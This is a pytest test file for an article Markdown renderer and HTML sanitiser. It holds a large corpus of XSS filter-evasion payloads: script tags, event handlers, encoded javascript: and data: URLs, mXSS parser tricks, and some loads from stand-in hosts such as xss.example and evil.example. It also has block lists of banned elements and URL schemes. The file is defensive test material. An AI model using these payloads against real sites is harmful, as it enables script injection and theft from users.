"""Attack corpus for the Markdown renderer/sanitiser (articles.rendering). No database, no Django.

Every payload goes through render_markdown (Markdown path) and sanitise_html (raw HTML path);
the output is parsed with the stdlib html.parser and checked element by element.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from articles.rendering import (
    MAX_SOURCE_BYTES,
    SANITISER_VERSION,
    SourceTooLarge,
    extract_toc,
    html_to_text,
    render_markdown,
    sanitise_html,
)

JS = "javascript:alert(1)"

# (id, payload). Shapes from the OWASP XSS filter evasion cheat sheet, the HTML5 Security
# Cheatsheet, mXSS write-ups and Markdown-specific link tricks.
PAYLOADS: list[tuple[str, str]] = [
    # --- plain script / OWASP classics
    ("script-basic", "<script>alert(1)</script>"),
    ("script-src", '<SCRIPT SRC="https://xss.example/xss.js"></SCRIPT>'),
    ("script-mixedcase", "<ScRiPt>alert(1)</sCrIpT>"),
    ("script-no-close", "<script>alert(1)"),
    ("script-slash-attr", '<SCRIPT/XSS SRC="http://xss.example/xss.js"></SCRIPT>'),
    ("script-extra-open", "<<SCRIPT>alert(1);//<</SCRIPT>"),
    ("script-half-open", "<SCRIPT SRC=http://xss.example/xss.js?< B >"),
    ("script-in-attr-quote", '<SCRIPT a=">" SRC="http://xss.example/xss.js"></SCRIPT>'),
    ("script-split", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("script-nul", "<scr\x00ipt>alert(1)</script>"),
    ("script-in-md-paragraph", "Hello *world* <script>alert(document.cookie)</script> end"),
    ("script-in-md-list", "- item\n- <script>alert(1)</script>\n"),
    ("script-in-blockquote", "> <script>alert(1)</script>\n"),
    ("script-in-table", "| a |\n|---|\n| <script>alert(1)</script> |\n"),
    # --- img / event handlers
    ("img-onerror", "<img src=x onerror=alert(1)>"),
    ("img-onerror-slash", "<img/src=x/onerror=alert(1)>"),
    ("img-onerror-backtick", "<img src=`x` onerror=`alert(1)`>"),
    ("img-onerror-entity", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>"),
    ("img-no-quotes-js", "<IMG SRC=javascript:alert('XSS')>"),
    ("img-js-mixedcase", '<IMG SRC="JaVaScRiPt:alert(1)">'),
    ("img-js-decimal", '<IMG SRC="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">'),
    (
        "img-js-decimal-padded",
        "<IMG SRC=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099"
        "&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)>",
    ),
    ("img-js-hex-nosemi", "<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3Aalert(1)>"),
    ("img-js-tab", '<IMG SRC="jav\tascript:alert(1);">'),
    ("img-js-tab-entity", '<IMG SRC="jav&#x09;ascript:alert(1);">'),
    ("img-js-newline-entity", '<IMG SRC="jav&#x0A;ascript:alert(1);">'),
    ("img-js-cr-entity", '<IMG SRC="jav&#x0D;ascript:alert(1);">'),
    ("img-js-leading-space", '<IMG SRC=" &#14;  javascript:alert(1);">'),
    ("img-dynsrc", '<IMG DYNSRC="javascript:alert(1)">'),
    ("img-lowsrc", '<IMG LOWSRC="javascript:alert(1)">'),
    ("img-srcset", '<img srcset="javascript:alert(1) 1x" src=x>'),
    ("img-data-svg", '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">'),
    ("img-vbscript", "<IMG SRC='vbscript:msgbox(\"XSS\")'>"),
    ("img-malformed-quote", '<IMG """><SCRIPT>alert(1)</SCRIPT>">'),
    ("img-fromcharcode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>"),
    ("img-style-expression", '<IMG STYLE="xss:expr/*XSS*/ession(alert(1))">'),
    ("img-usemap", '<img usemap=#m src=x><map name=m><area href="javascript:alert(1)"></map>'),
    # --- event handlers on many tags
    ("body-onload", "<body onload=alert(1)>"),
    ("body-onpageshow", "<BODY ONLOAD=alert('XSS')>"),
    ("div-onmouseover", "<div onmouseover=alert(1)>hover</div>"),
    ("p-onclick", "<p onclick=alert(1)>click</p>"),
    ("a-onclick", '<a href="https://ok.example" onclick="alert(1)">x</a>'),
    ("a-onfocus-autofocus", '<a href="#" onfocus=alert(1) autofocus tabindex=1>x</a>'),
    ("span-onpointerenter", "<span onpointerenter=alert(1)>x</span>"),
    ("h1-onanimationstart", "<h1 onanimationstart=alert(1) style=animation-name:x>t</h1>"),
    ("table-onmouseover", "<table onmouseover=alert(1)><tr><td>x</td></tr></table>"),
    ("td-background", '<TABLE><TD BACKGROUND="javascript:alert(1)">'),
    ("table-background", '<TABLE BACKGROUND="javascript:alert(1)">'),
    ("input-autofocus", "<input autofocus onfocus=alert(1)>"),
    ("select-onfocus", "<select autofocus onfocus=alert(1)>"),
    ("textarea-onfocus", "<textarea autofocus onfocus=alert(1)>"),
    ("keygen-onfocus", "<keygen autofocus onfocus=alert(1)>"),
    ("video-onerror", "<video><source onerror=alert(1)></video>"),
    ("video-poster", "<video poster=javascript:alert(1)//></video>"),
    ("audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("details-ontoggle", "<details open ontoggle=alert(1)>"),
    ("marquee-onstart", "<marquee onstart=alert(1)>x</marquee>"),
    ("bgsound", '<BGSOUND SRC="javascript:alert(1);">'),
    ("br-size-js", "<BR SIZE=\"&{alert('XSS')}\">"),
    ("onerror-weird-sep", "<img src=x onerror\x0b=alert(1)>"),
    ("on-attr-no-space", '<img src="x"onerror="alert(1)">'),
    ("on-attr-slash", "<img src=x/onerror=alert(1)//>"),
    ("code-onclick-class", '<code class="language-py" onclick=alert(1)>x</code>'),
    ("code-class-injection", '<code class="language-py x" id=y>x</code>'),
    ("ol-start-script", '<ol start="1 onmouseover=alert(1)"><li>x</li></ol>'),
    ("th-align-js", '<table><tr><th align="javascript:alert(1)" colspan="x">a</th></tr></table>'),
    # --- href / URL schemes
    ("a-js", '<a href="javascript:alert(1)">x</a>'),
    ("a-js-upper", '<a href="JAVASCRIPT:alert(1)">x</a>'),
    ("a-js-mixed", '<a href="jAvAsCrIpT:alert(1)">x</a>'),
    ("a-js-leading-ws", '<a href="  \n\tjavascript:alert(1)">x</a>'),
    ("a-js-leading-ctrl", '<a href="\x01\x02javascript:alert(1)">x</a>'),
    ("a-js-entity-colon", '<a href="javascript&colon;alert(1)">x</a>'),
    ("a-js-entity-tab", '<a href="java&Tab;script:alert(1)">x</a>'),
    ("a-js-entity-newline", '<a href="java&NewLine;script:alert(1)">x</a>'),
    ("a-js-decimal", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)">x</a>'),
    (
        "a-js-hex",
        '<a href="&#x6a;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3a;alert(1)">x</a>',
    ),
    ("a-js-hex-nosemi", '<a href="&#x6a&#x61&#x76&#x61script:alert(1)">x</a>'),
    ("a-js-decimal-padded", '<a href="&#0000106;avascript:alert(1)">x</a>'),
    ("a-js-hex-padded", '<a href="&#x000006A;avascript:alert(1)">x</a>'),
    ("a-js-nul", '<a href="java\x00script:alert(1)">x</a>'),
    ("a-js-nul-entity", '<a href="java&#0;script:alert(1)">x</a>'),
    ("a-js-embedded-newline", '<a href="java\nscript:alert(1)">x</a>'),
    ("a-vbscript", '<a href="vbscript:msgbox(1)">x</a>'),
    ("a-vbscript-upper", '<a href="VBSCRIPT:msgbox(1)">x</a>'),
    ("a-data-html", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'),
    ("a-data-upper", '<a href="DATA:text/html,<script>alert(1)</script>">x</a>'),
    ("a-livescript", '<a href="livescript:alert(1)">x</a>'),
    ("a-file", '<a href="file:///etc/passwd">x</a>'),
    ("a-unicode-escape-js", '<a href="\\u006aavascript:alert(1)">x</a>'),
    ("a-nested-quotes", "<a href='javascript:alert(\"1\")'>x</a>"),
    ("a-target-rel", '<a href="https://ok.example" target=_blank rel="opener">x</a>'),
    ("a-ping", '<a href="https://ok.example" ping="https://evil.example">x</a>'),
    ("area-js", '<map><area href="javascript:alert(1)" shape=rect coords=0,0,1,1></map>'),
    # --- Markdown links, images, references, autolinks
    ("md-link-js", f"[click]({JS})"),
    ("md-link-js-upper", "[click](JAVASCRIPT:alert(1))"),
    ("md-link-js-mixed", "[click](JaVaScRiPt:alert(1))"),
    ("md-link-js-angle", f"[click](<{JS}>)"),
    ("md-link-js-title", f'[click]({JS} "title")'),
    ("md-link-js-entity", "[click](&#106;avascript:alert(1))"),
    ("md-link-js-hex-entity", "[click](&#x6A;avascript&#x3A;alert(1))"),
    ("md-link-js-colon-entity", "[click](javascript&#58;alert(1))"),
    ("md-link-js-colon-named", "[click](javascript&colon;alert(1))"),
    ("md-link-js-padded", "[click](&#0000106;&#0000097;vascript:alert(1))"),
    ("md-link-js-percent", "[click](javascript%3Aalert(1))"),
    ("md-link-js-tab", "[click](java\tscript:alert(1))"),
    ("md-link-js-multiline", "[click](java\nscript:alert(1))"),
    ("md-link-text-multiline", "[multi\nline\ntext](javascript:alert(1))"),
    ("md-link-vbscript", "[click](vbscript:msgbox(1))"),
    ("md-link-data", "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"),
    ("md-link-data-upper", "[click](DaTa:text/html,<script>alert(1)</script>)"),
    ("md-link-js-escaped", "[click](javascript\\:alert(1))"),
    ("md-link-title-breakout", '[click](https://ok.example "a" onmouseover="alert(1)")'),
    ("md-link-title-quote", '[click](https://ok.example "x\\" onclick=alert(1) \\"")'),
    ("md-link-url-quote", '[click](https://ok.example/"onmouseover="alert(1))'),
    ("md-image-js", f"![alt]({JS})"),
    ("md-image-data", "![alt](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)"),
    ("md-image-vbscript", "![alt](vbscript:msgbox(1))"),
    ("md-image-mailto", "![alt](mailto:a@example.com)"),
    ("md-image-alt-breakout", '![x" onerror="alert(1)](https://ok.example/x.png)'),
    ("md-image-title-breakout", '![x](https://ok.example/x.png "t\\" onerror=\\"alert(1)")'),
    ("md-ref-link-js", f"[click][ref]\n\n[ref]: {JS}\n"),
    ("md-ref-link-js-title", f'[click][ref]\n\n[ref]: {JS} "t"\n'),
    ("md-ref-link-js-angle", f"[click][ref]\n\n[ref]: <{JS}>\n"),
    ("md-ref-link-js-entity", "[click][ref]\n\n[ref]: &#106;avascript:alert(1)\n"),
    ("md-ref-collapsed", f"[ref][]\n\n[ref]: {JS}\n"),
    ("md-ref-shortcut", f"[ref]\n\n[ref]: {JS}\n"),
    ("md-ref-image-js", f"![alt][img]\n\n[img]: {JS}\n"),
    ("md-ref-image-data", "![alt][img]\n\n[img]: data:text/html,<script>alert(1)</script>\n"),
    ("md-ref-multiline", "[click][ref]\n\n[ref]:\n    javascript:alert(1)\n"),
    ("md-autolink-js", "<javascript:alert(1)>"),
    ("md-autolink-js-upper", "<JAVASCRIPT:alert(1)>"),
    ("md-autolink-vbscript", "<vbscript:msgbox(1)>"),
    ("md-autolink-data", "<data:text/html,<script>alert(1)</script>>"),
    ("md-autolink-mailto-js", "<mailto:javascript:alert(1)>"),
    ("md-autolink-http-quote", '<https://ok.example/" onmouseover="alert(1)>'),
    ("md-autolink-email-breakout", '<a"onmouseover="alert(1)@example.com>'),
    ("md-nested-link-image", f"[![img](https://ok.example/i.png)]({JS})"),
    ("md-link-in-code", f"`[x]({JS})` and ```<script>alert(1)</script>```"),
    ("md-fenced-lang-breakout", '```"><script>alert(1)</script>\ncode\n```'),
    ("md-fenced-attrs", '```{ .python #id onclick="alert(1)" }\ncode\n```'),
    ("md-fenced-lang-js", "```javascript:alert(1)\ncode\n```"),
    (
        "md-attr-list-syntax",
        '# Title {: onclick="alert(1)" style="color:red" }\n\npara\n{: onmouseover=alert(1) }',
    ),
    ("md-in-html-markdown-1", '<div markdown="1" onclick="alert(1)">*x*</div>'),
    ("md-heading-id-clobber", "# <img src=x onerror=alert(1)>\n\n## [x](javascript:alert(1))"),
    ("md-toc-marker", f"[TOC]\n\n## <svg onload=alert(1)>\n\n## [y]({JS})"),
    ("md-abbr-title", '*[HTML]: "><script>alert(1)</script>\n\nHTML'),
    (
        "md-table-align-style",
        "| a | b |\n|:--|--:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    ),
    ("md-deflist", f"Term\n:   [def]({JS}) <script>alert(1)</script>"),
    ("md-html-block", "<div>\n<script>alert(1)</script>\n</div>"),
    ("md-stash-marker", "\x02wzxhzdk:0\x03<script>alert(1)</script>\x02klzzwxh:0000\x03"),
    # --- SVG / MathML
    ("svg-onload", "<svg onload=alert(1)>"),
    ("svg-script", "<svg><script>alert(1)</script></svg>"),
    ("svg-script-href", '<svg><script href="data:,alert(1)" /></svg>'),
    ("svg-a-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x=20 y=20>x</text></a></svg>'),
    ("svg-animate", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("svg-set-href", '<svg><a><set attributeName=href to="javascript:alert(1)"/><text>x</text></a></svg>'),
    (
        "svg-foreignobject",
        '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
    ),
    ("svg-use-data", '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>'),
    ("svg-style-breakout", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("svg-p-breakout", "<svg><p><style><img src=x onerror=alert(1)></style></p></svg>"),
    ("math-mglyph-style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    (
        "math-mglyph-style-closed",
        '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">',
    ),
    ("math-href", '<math href="javascript:alert(1)">CLICK</math>'),
    (
        "math-maction",
        '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
    ),
    ("math-mi-div", "<p><math><mi><div>x</div></mi></math></p>"),
    (
        "math-annotation-xml",
        '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(1)></style></annotation-xml></math>',
    ),
    # --- mutation XSS / parser differentials
    ("mxss-noscript", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>'),
    ("mxss-style-title", "<style><style/><img src=x onerror=alert(1)></style>"),
    ("mxss-title", '<title><img title="</title><img src=x onerror=alert(1)>"></title>'),
    ("mxss-textarea", '<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>'),
    ("mxss-xmp", '<xmp><img title="</xmp><img src=x onerror=alert(1)>"></xmp>'),
    ("mxss-listing", "<listing>&lt;img src=x onerror=alert(1)&gt;</listing>"),
    ("mxss-plaintext", "<plaintext><img src=x onerror=alert(1)>"),
    ("mxss-iframe-content", '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>'),
    ("mxss-noembed", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>'),
    ("mxss-noframes", '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>'),
    ("mxss-template", "<template><img src=x onerror=alert(1)></template>"),
    ("mxss-comment-attr", '<!--<img src="--><img src=x onerror=alert(1)//">'),
    ("mxss-comment-bang", "<!--><img src=x onerror=alert(1)>-->"),
    ("mxss-comment-dash", "<!---><img src=x onerror=alert(1)>-->"),
    ("mxss-conditional-comment", "<!--[if gte IE 4]><SCRIPT>alert('XSS');</SCRIPT><![endif]-->"),
    ("mxss-cdata", "<![CDATA[><img src=x onerror=alert(1)>]]>"),
    ("mxss-svg-cdata", "<svg><![CDATA[><img src=x onerror=alert(1)>]]></svg>"),
    ("mxss-processing-instruction", '<?xml-stylesheet href="javascript:alert(1)"?>'),
    ("mxss-bogus-comment", "</x onerror=alert(1)><img src=x onerror=alert(1)>"),
    ("mxss-form-nesting", "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>"),
    (
        "mxss-select-breakout",
        "<select><template><style><img src=x onerror=alert(1)></style></template></select>",
    ),
    ("mxss-table-foster", "<table><img src=x onerror=alert(1)><tr><td>x</td></tr></table>"),
    ("mxss-a-nesting", f'<a href="https://ok.example"><a href="{JS}">x</a></a>'),
    ("mxss-p-button-div", "<p><button><div>x</div></button></p>"),
    ("mxss-p-marquee-div", "<p><marquee><div>x</div></marquee></p>"),
    ("mxss-caption-two-passes", '<a href=x><table><caption><a href="javascript:alert(1)">x</a>'),
    ("mxss-backtick-attr", "<div title=``onmouseover=alert(1)>x</div>"),
    ("mxss-unclosed-attr", '<a href="https://ok.example title="><img src=x onerror=alert(1)>'),
    ("malformed-a-tags", '\\<a onmouseover="alert(1)"\\>xxs link\\</a\\>'),
    ("malformed-img", "<IMG SRC=# onmouseover=\"alert('xxs')\">"),
    ("malformed-nested", "<<img src=x onerror=alert(1)//<"),
    ("malformed-no-close", "<img src=x onerror=alert(1)//"),
    ("malformed-deep-nesting", "<div>" * 200 + "<img src=x onerror=alert(1)>" + "</div>" * 200),
    ("malformed-bad-entity", '<a href="&#xD800;javascript:alert(1)">x</a>'),
    ("malformed-surrogate", '<a href="\ud800javascript:alert(1)">x</a>'),
    # --- document-level and embedding elements
    ("base-href", '<base href="javascript:alert(1)//">'),
    ("base-href-http", '<base href="https://evil.example/">'),
    ("meta-refresh", '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(1);">'),
    (
        "meta-refresh-data",
        '<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg">',
    ),
    ("meta-csp", "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">"),
    ("link-stylesheet", '<LINK REL="stylesheet" HREF="javascript:alert(1);">'),
    ("link-import", '<link rel=import href="https://evil.example/x.html">'),
    ("form-action", '<form action="javascript:alert(1)"><input type=submit></form>'),
    ("form-button-formaction", '<form><button formaction="javascript:alert(1)">x</button></form>'),
    ("input-formaction", "<input type=image formaction=javascript:alert(1) src=x>"),
    ("isindex", "<isindex type=image src=1 onerror=alert(1)>"),
    ("iframe-src", '<IFRAME SRC="javascript:alert(1);"></IFRAME>'),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'),
    ("frameset", '<FRAMESET><FRAME SRC="javascript:alert(1);"></FRAMESET>'),
    ("object-data", '<object data="javascript:alert(1)"></object>'),
    ("object-data-html", '<OBJECT TYPE="text/x-scriptlet" DATA="https://evil.example/x.html"></OBJECT>'),
    (
        "embed-src",
        '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" '
        'type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
    ),
    ("applet", '<applet code="X" codebase="javascript:alert(1)"></applet>'),
    (
        "xml-island",
        '<XML ID="I"><X><C><![CDATA[<IMG SRC="javas]]><![CDATA[cript:alert(1);">]]></C></X></xml>',
    ),
    ("portal", '<portal src="https://evil.example"></portal>'),
    # --- style attribute and CSS
    ("style-tag", "<STYLE>@im\\port'\\ja\\vasc\\ript:alert(1)';</STYLE>"),
    ("style-expression", '<div style="width: expression(alert(1));">x</div>'),
    ("style-url-js", '<div style="background-image: url(javascript:alert(1))">x</div>'),
    ("style-url-js-escaped", '<div style="background:url(&#1;javascript:alert(1))">x</div>'),
    ("style-behavior", '<p style="behavior: url(xss.htc);">x</p>'),
    ("style-moz-binding", '<p style="-moz-binding:url(https://evil.example/x.xml#xss)">x</p>'),
    ("style-comment-split", '<div style="xss:expr/*XSS*/ession(alert(1))">x</div>'),
    ("style-tag-import", "<style>@import url(https://evil.example/x.css);</style>"),
    ("style-overlay-phishing", '<a href="https://evil.example" style="position:fixed;inset:0">login</a>'),
    # --- attribute smuggling on allowed tags
    ("allowed-id-everywhere", '<p id="x" class="y" data-x="1" dir="rtl" lang="x">x</p>'),
    ("allowed-a-formaction", '<a href="#" formaction="javascript:alert(1)">x</a>'),
    ("allowed-img-xlink", '<img xlink:href="javascript:alert(1)" src="https://ok.example/x.png">'),
    ("allowed-a-xlink", '<a xlink:href="javascript:alert(1)">x</a>'),
    ("allowed-td-background", '<table><tr><td background="javascript:alert(1)">x</td></tr></table>'),
    ("allowed-blockquote-cite", '<blockquote cite="javascript:alert(1)">x</blockquote>'),
    ("allowed-ins-cite", '<ins cite="javascript:alert(1)">x</ins>'),
    ("allowed-img-longdesc", '<img longdesc="javascript:alert(1)" src="x">'),
    ("allowed-img-data-png", '<img src="data:image/png;base64,iVBORw0KGgo=">'),
    ("allowed-img-mailto", '<img src="mailto:a@example.com">'),
    ("allowed-h2-id-clobber", '<h2 id="__proto__" name="x" onclick=alert(1)>x</h2>'),
]


BANNED_ELEMENTS = frozenset(
    "script style iframe frame frameset object embed svg math form input button textarea select"
    " base meta link noscript template applet xml".split()
)
BANNED_ATTRIBUTES = frozenset({"style", "srcdoc", "formaction", "xlink:href"})
HREF_SCHEMES = frozenset({"http", "https", "mailto"})
SRC_SCHEMES = frozenset({"http", "https"})
_URL_NOISE = re.compile(r"[\x00-\x20\x7f-\x9f\s]")
_SCHEME = re.compile(r"([a-z][a-z0-9+.\-]*):")


class _Collector(HTMLParser):
    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []
        self.oddities: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {name: value or "" for name, value in attrs}))

    def handle_comment(self, data):
        self.oddities.append(f"comment:{data}")

    def handle_decl(self, decl):
        self.oddities.append(f"decl:{decl}")

    def handle_pi(self, data):
        self.oddities.append(f"pi:{data}")

    def unknown_decl(self, data):
        self.oddities.append(f"unknown:{data}")


def parse(html: str) -> _Collector:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector


def scheme_of(value: str) -> str | None:
    """Scheme as a browser would see it. html.parser already unescaped the attribute value once,
    exactly like a browser does; control chars and whitespace are removed anywhere."""
    cleaned = _URL_NOISE.sub("", value).lower()
    match = _SCHEME.match(cleaned)
    return match.group(1) if match else None


def assert_safe(html: str) -> None:
    doc = parse(html)
    assert not doc.oddities, doc.oddities
    for tag, attrs in doc.elements:
        assert tag not in BANNED_ELEMENTS, (tag, html)
        for name, value in attrs.items():
            assert not name.startswith("on"), (tag, name, html)
            assert name not in BANNED_ATTRIBUTES, (tag, name, html)
            if name == "href":
                assert scheme_of(value) in (None, *HREF_SCHEMES), (tag, value, html)
            if name in ("src", "srcset", "data", "action", "background", "poster", "cite"):
                assert scheme_of(value) in (None, *SRC_SCHEMES), (tag, name, value, html)
        if tag == "a" and "href" in attrs:
            rel = set(attrs.get("rel", "").split())
            assert {"noopener", "noreferrer", "nofollow"} <= rel, (attrs, html)
    assert sanitise_html(html) == html, "sanitise_html is not idempotent on this output"


def _ids(items: list[tuple[str, str]]) -> list[str]:
    return [name for name, _ in items]


def test_corpus_is_large_and_ids_unique() -> None:
    assert len(PAYLOADS) >= 120
    assert len(set(_ids(PAYLOADS))) == len(PAYLOADS)


@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=_ids(PAYLOADS))
def test_markdown_path_is_safe(payload: str) -> None:
    assert_safe(render_markdown(payload))


@pytest.mark.parametrize("payload", [p for _, p in PAYLOADS], ids=_ids(PAYLOADS))
def test_raw_html_path_is_safe(payload: str) -> None:
    assert_safe(sanitise_html(payload))


# --- the checker itself must bite -------------------------------------------------------------


@pytest.mark.parametrize(
    "html",
    [
        "<script>alert(1)</script>",
        "<svg></svg>",
        '<img src="x" onerror="alert(1)">',
        '<a href="javascript:alert(1)" rel="noopener noreferrer nofollow">x</a>',
        '<a href="jav&#x09;ascript:alert(1)" rel="noopener noreferrer nofollow">x</a>',
        '<a href=" &#1; JaVaScRiPt:alert(1)" rel="noopener noreferrer nofollow">x</a>',
        '<img src="mailto:a@example.com">',
        '<img src="data:image/png;base64,AA">',
        '<a href="https://ok.example">no rel</a>',
        '<p style="color:red">x</p>',
        "<p>x<!-- comment --></p>",
    ],
)
def test_checker_rejects_unsafe_html(html: str) -> None:
    with pytest.raises(AssertionError):
        assert_safe(html)


# --- what must survive ------------------------------------------------------------------------


def test_version_string() -> None:
    assert SANITISER_VERSION.startswith("nh3-")
    assert "+markdown-" in SANITISER_VERSION
    assert SANITISER_VERSION.endswith("+policy-2")  # policy-2: attachment: references (issue #16)


def test_headings_get_unicode_ids() -> None:
    html = render_markdown("# Résiliation\n\n## Étape 2 : envoi\n")
    assert '<h1 id="résiliation">Résiliation</h1>' in html
    assert '<h2 id="étape-2-envoi">Étape 2 : envoi</h2>' in html


def test_duplicate_headings_get_distinct_ids() -> None:
    ids = [anchor for _, anchor, _ in extract_toc(render_markdown("## Notes\n\n## Notes\n"))]
    assert len(ids) == 2 and len(set(ids)) == 2


def test_table_survives_with_alignment() -> None:
    html = render_markdown("| Left | Right |\n|:-----|------:|\n| a | 1 |\n")
    doc = parse(html)
    tags = [tag for tag, _ in doc.elements]
    assert tags[:2] == ["table", "thead"] and "tbody" in tags and tags.count("td") == 2
    assert ("th", {"align": "left"}) in doc.elements
    assert ("td", {"align": "right"}) in doc.elements


def test_fenced_code_keeps_language_class_and_escapes_content() -> None:
    html = render_markdown('```python\nif a < b and "<script>":\n    pass\n```\n')
    assert '<pre><code class="language-python">' in html
    assert "&lt;script&gt;" in html and "<script>" not in html


def test_code_class_restricted_to_language_values() -> None:
    assert sanitise_html('<code class="language-c++">x</code>') == '<code class="language-c++">x</code>'
    assert sanitise_html('<code class="evil">x</code>') == "<code>x</code>"
    assert sanitise_html('<p class="language-py">x</p>') == "<p>x</p>"


def test_lists_survive() -> None:
    html = render_markdown("- a\n- b\n\n3. three\n4. four\n")
    doc = parse(html)
    assert [tag for tag, _ in doc.elements] == ["ul", "li", "li", "ol", "li", "li"]
    assert doc.elements[3] == ("ol", {"start": "3"})


def test_links_survive_with_rel() -> None:
    html = render_markdown(
        '[web](https://example.com/a?b=1&c=2 "T") [plain](http://example.com) '
        "[mail](mailto:help@example.com) [rel](/kb/article/12/) [frag](#section) [up](../x)"
    )
    anchors = [attrs for tag, attrs in parse(html).elements if tag == "a"]
    assert [a["href"] for a in anchors] == [
        "https://example.com/a?b=1&c=2",
        "http://example.com",
        "mailto:help@example.com",
        "/kb/article/12/",
        "#section",
        "../x",
    ]
    assert anchors[0]["title"] == "T"
    assert all(a["rel"] == "noopener noreferrer nofollow" for a in anchors)


def test_images_survive() -> None:
    html = render_markdown('![Diagram](https://cdn.example/d.png "Flow") ![local](/media/x.png)')
    imgs = [attrs for tag, attrs in parse(html).elements if tag == "img"]
    assert imgs == [
        {"alt": "Diagram", "src": "https://cdn.example/d.png", "title": "Flow"},
        {"alt": "local", "src": "/media/x.png"},
    ]


def test_inline_formatting_and_raw_allowed_html_survive() -> None:
    html = render_markdown("**b** *i* `c` <kbd>Ctrl</kbd> <mark>m</mark> H<sub>2</sub>O x<sup>2</sup> ~~no~~")
    for fragment in (
        "<strong>b</strong>",
        "<em>i</em>",
        "<code>c</code>",
        "<kbd>Ctrl</kbd>",
        "<mark>m</mark>",
        "<sub>2</sub>",
        "<sup>2</sup>",
    ):
        assert fragment in html


def test_attr_list_and_md_in_html_are_not_interpreted() -> None:
    html = render_markdown(
        '## Title {: #custom .big }\n\npara\n{: data-x="1" }\n\n<div markdown="1">*x*</div>\n'
    )
    attrs = {name for _, element_attrs in parse(html).elements for name in element_attrs}
    assert attrs == {"id"}
    assert '<h2 id="title-custom-big">Title {: #custom .big }</h2>' in html  # literal text
    assert "<em>x</em>" not in html


def test_source_too_large() -> None:
    render_markdown("a" * MAX_SOURCE_BYTES)  # exactly at the limit is fine
    with pytest.raises(SourceTooLarge):
        render_markdown("a" * (MAX_SOURCE_BYTES + 1))
    with pytest.raises(SourceTooLarge):  # counted in UTF-8 bytes, not characters
        render_markdown("é" * (MAX_SOURCE_BYTES // 2 + 1))
    assert issubclass(SourceTooLarge, ValueError)


def test_extract_toc() -> None:
    html = render_markdown(
        "# Title\n\n## Résiliation du *contrat*\n\ntext\n\n### Délais\n\n#### Too deep\n\n## Fin\n"
    )
    assert extract_toc(html) == [
        (2, "résiliation-du-contrat", "Résiliation du contrat"),
        (3, "délais", "Délais"),
        (2, "fin", "Fin"),
    ]


def test_html_to_text() -> None:
    html = render_markdown("## Heading\n\nSome **bold** & <em>it</em> text.\n\n- one\n- two\n")
    text = html_to_text(html)
    assert "<" not in text and ">" not in text
    assert text == "Heading\nSome bold & it text.\none\ntwo"


def test_render_is_stable_across_calls() -> None:
    source = "## Same\n\n[x][r]\n\n[r]: https://example.com\n"
    assert render_markdown(source) == render_markdown(source)
    # reference definitions must not leak from one call into the next
    assert "href" not in render_markdown("[x][r]\n")
